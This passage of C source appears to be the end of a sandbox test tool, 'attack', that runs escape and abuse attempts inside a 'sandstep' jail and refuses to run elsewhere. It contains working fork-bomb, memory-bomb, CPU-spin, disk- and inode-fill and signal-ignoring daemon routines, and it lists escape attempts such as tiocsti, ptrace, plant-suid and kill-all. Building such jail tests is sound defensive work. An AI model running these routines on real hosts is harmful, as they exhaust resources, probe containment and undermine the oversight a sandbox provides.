  link[n > 0 ? n : 0] = '\0';
  stat ("/", &root);
  stat ("/..", &up);
  stat ("/workspace/../..", &upup);
  printf ("cwd=%s proc-cwd=%s root-parent=%s\n", cwd, link,
          root.st_ino == up.st_ino && root.st_dev == up.st_dev && root.st_ino == upup.st_ino ? "root" : "elsewhere");
  return 0;
}

static int
do_shm (int argc, char **argv)
{
  if (argc < 2)
    return usage ("shm get KEY | shm at ID");
  if (strcmp (argv[0], "get") == 0)
    return result (shmget ((key_t) strtol (argv[1], NULL, 0), 0, 0));
  {
    void *p = shmat (atoi (argv[1]), NULL, SHM_RDONLY);
    return result (p == (void *) -1 ? -1 : 0);
  }
}

/* ---- I. resources ---- */

static double
now_s (void)
{
  struct timespec ts;

  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* A fork bomb: for SECONDS every process forks as fast as it can, and every
 * child does the same; then the first one prints the first fork error it
 * saw.  Without SECONDS: fork children that wait, until fork fails. */
static int
do_forkbomb (int argc, char **argv)
{
  double seconds = argc > 0 ? atof (argv[0]) : 0;
  double deadline = now_s () + seconds;
  int first_errno = 0;
  long forked = 0;

  if (seconds <= 0)
    {
      for (;;)
        {
          pid_t pid = fork ();
          if (pid == 0)
            {
              for (;;)
                pause ();
            }
          if (pid < 0)
            {
              printf ("errno=%s\n", err_name (errno));
              return 0;
            }
        }
    }
  while (now_s () < deadline)
    {
      pid_t pid = fork ();
      if (pid == 0)
        {
          /* The child bombs too, silently, until the deadline. */
          while (now_s () < deadline)
            if (fork () < 0)
              sched_yield ();
          for (;;)
            pause ();
        }
      if (pid < 0 && first_errno == 0)
        first_errno = errno;
      if (pid > 0)
        forked++;
    }
  if (first_errno != 0)
    printf ("errno=%s\n", err_name (first_errno));
  else
    printf ("forked=%ld\n", forked);
  return 0;
}

/* Touches memory in 1 MiB steps, up to MIB (default 4096). */
static int
do_membomb (int argc, char **argv)
{
  long limit = argc > 0 ? atol (argv[0]) : 4096;

  for (long i = 0; i < limit; i++)
    {
      char *p = malloc (1 << 20);
      if (p == NULL)
        {
          printf ("errno=%s\n", err_name (errno));
          return 0;
        }
      memset (p, i & 0xff, 1 << 20);
    }
  printf ("allocated=%ldM\n", limit);
  return 0;
}

static int
do_spin (int argc, char **argv)
{
  volatile unsigned long n = 0;

  for (;;)
    n++;
  return 0;
}

/* Writes 64 KiB blocks to PATH up to MIB (default 64). */
static int
do_fill (int argc, char **argv)
{
  static char block[65536];
  long limit = argc > 1 ? atol (argv[1]) : 64;
  int fd;

  if (argc < 1)
    return usage ("fill PATH [MIB]");
  fd = open (argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0)
    return result (-1);
  for (long i = 0; i < limit * 16; i++)
    if (write (fd, block, sizeof block) != sizeof block)
      return result (-1);
  printf ("wrote=%ldM\n", limit);
  return 0;
}

/* Creates up to N empty files in DIR. */
static int
do_inodes (int argc, char **argv)
{
  long limit;
  long i;
  int dir;

  if (argc < 2)
    return usage ("inodes DIR N");
  limit = atol (argv[1]);
  mkdir (argv[0], 0755);
  dir = open (argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dir < 0)
    return result (-1);
  for (i = 0; i < limit; i++)
    {
      char name[32];
      int fd;
      snprintf (name, sizeof name, "%ld", i);
      fd = openat (dir, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
      if (fd < 0)
        {
          printf ("errno=%s created=%ld\n", err_name (errno), i);
          return 0;
        }
      close (fd);
    }
  printf ("created=%ld\n", i);
  return 0;
}

/* Double fork, new session, deaf to SIGTERM and SIGHUP, then `sleep SECONDS`. */
static int
do_daemon (int argc, char **argv)
{
  pid_t pid;

  if (argc < 1)
    return usage ("daemon SECONDS");
  pid = fork ();
  if (pid == 0)
    {
      setsid ();
      if (fork () == 0)
        {
          signal (SIGTERM, SIG_IGN);
          signal (SIGHUP, SIG_IGN);
          for (int fd = 0; fd < 3; fd++)
            close (fd);
          open ("/dev/null", O_RDWR);
          dup (0);
          dup (0);
          execl ("/usr/bin/sleep", "sleep", argv[0], (char *) NULL);
          _exit (127);
        }
      _exit (0);
    }
  waitpid (pid, NULL, 0);
  return result (pid);
}

static int
do_core (int argc, char **argv)
{
  struct rlimit lim, raise_to = { RLIM_INFINITY, RLIM_INFINITY };
  long r;
  int e;

  getrlimit (RLIMIT_CORE, &lim);
  r = setrlimit (RLIMIT_CORE, &raise_to);
  e = errno;
  printf ("core=%llu/%llu raise=%s dumpable=%d\n", (unsigned long long) lim.rlim_cur,
          (unsigned long long) lim.rlim_max, outcome (r, e), prctl (PR_GET_DUMPABLE, 0, 0, 0, 0));
  return 0;
}

static int
do_crash (int argc, char **argv)
{
  fflush (stdout);
  raise (SIGSEGV);
  return 0;
}

static int
do_sethostname (int argc, char **argv)
{
  struct utsname u;
  long r;
  int e;

  if (argc < 1)
    return usage ("sethostname NAME");
  r = sethostname (argv[0], strlen (argv[0]));
  e = errno;
  uname (&u);
  printf ("sethostname=%s nodename=%s\n", outcome (r, e), u.nodename);
  return 0;
}

static int
do_statvfs (int argc, char **argv)
{
  struct statvfs st;

  if (argc < 1)
    return usage ("mountflags PATH");
  if (statvfs (argv[0], &st) < 0)
    return result (-1);
  printf ("ro=%d nosuid=%d nodev=%d\n", !!(st.f_flag & ST_RDONLY), !!(st.f_flag & ST_NOSUID),
          !!(st.f_flag & ST_NODEV));
  return 0;
}

typedef int (*AttackFunc) (int argc, char **argv);

static int do_connect_unix_path (int argc, char **argv) { return do_connect_unix (argc, argv, 0); }
static int do_connect_abstract (int argc, char **argv) { return do_connect_unix (argc, argv, 1); }

static const struct { const char *name; AttackFunc func; } attacks[] = {
  { "tiocsti", do_tiocsti },
  { "tiocsti-hi", do_tiocsti_hi },
  { "tiocsti-ctty", do_tiocsti_ctty },
  { "tioclinux", do_tioclinux },
  { "unshare", do_unshare },
  { "clone", do_clone },
  { "clone3", do_clone3 },
  { "mount", do_mount },
  { "remount", do_remount },
  { "umount", do_umount },
  { "pivot-root", do_pivot_root },
  { "chroot", do_chroot },
  { "newmount", do_newmount },
  { "setns", do_setns },
  { "open", do_open },
  { "write", do_write },
  { "read", do_read },
  { "stat", do_stat },
  { "link", do_link },
  { "mknod", do_mknod },
  { "setcap", do_setxattr_caps },
  { "creds", do_creds },
  { "plant-suid", do_plant_suid },
  { "regain", do_regain },
  { "ptrace", do_ptrace },
  { "vm", do_vm },
  { "pidfd-getfd", do_pidfd_getfd },
  { "kill-all", do_kill_all },
  { "x32", do_x32 },
  { "int80", do_int80 },
  { "io-uring", do_io_uring },
  { "sys", do_sys },
  { "socket", do_socket },
  { "vsock-connect", do_vsock_connect },
  { "connect", do_connect },
  { "udp", do_udp },
  { "connect-unix", do_connect_unix_path },
  { "connect-abstract", do_connect_abstract },
  { "proxy", do_proxy },
  { "listen", do_listen },
  { "fds", do_fds },
  { "env-grep", do_env_grep },
  { "cwd", do_cwd },
  { "shm", do_shm },
  { "forkbomb", do_forkbomb },
  { "membomb", do_membomb },
  { "spin", do_spin },
  { "fill", do_fill },
  { "inodes", do_inodes },
  { "daemon", do_daemon },
  { "core", do_core },
  { "crash", do_crash },
  { "sethostname", do_sethostname },
  { "mountflags", do_statvfs },
};

/* Only inside a jail: its pid 1 is sandstep-init and it sets SANDSTEP=1. */
static int
inside_jail (void)
{
  char cmdline[64] = "";
  int fd = open ("/proc/1/cmdline", O_RDONLY | O_CLOEXEC);
  ssize_t n = fd >= 0 ? read (fd, cmdline, sizeof cmdline - 1) : -1;

  if (fd >= 0)
    close (fd);
  if (n <= 0)
    return 0;
  cmdline[n] = '\0';
  return strcmp (cmdline, "sandstep-init") == 0 && getenv ("SANDSTEP") != NULL && strcmp (getenv ("SANDSTEP"), "1") == 0;
}

int
main (int argc, char **argv)
{
  if (argc < 2)
    return usage ("attack NAME [ARGS...] (attack LIST for the names)");
  if (strcmp (argv[1], "LIST") == 0)
    {
      for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
        printf ("%s\n", attacks[i].name);
      return 0;
    }
  if (!inside_jail ())
    {
      fprintf (stderr, "attack: refusing to run '%s' outside a sandstep jail (pid 1 is not sandstep-init): "
               "these attempts are meant for a jail, and some (kill-all, forkbomb) would hurt a host\n", argv[1]);
      return 3;
    }
  for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
    if (strcmp (attacks[i].name, argv[1]) == 0)
      return attacks[i].func (argc - 2, argv + 2);
  fprintf (stderr, "attack: no attack named '%s'\n", argv[1]);
  return 2;
}
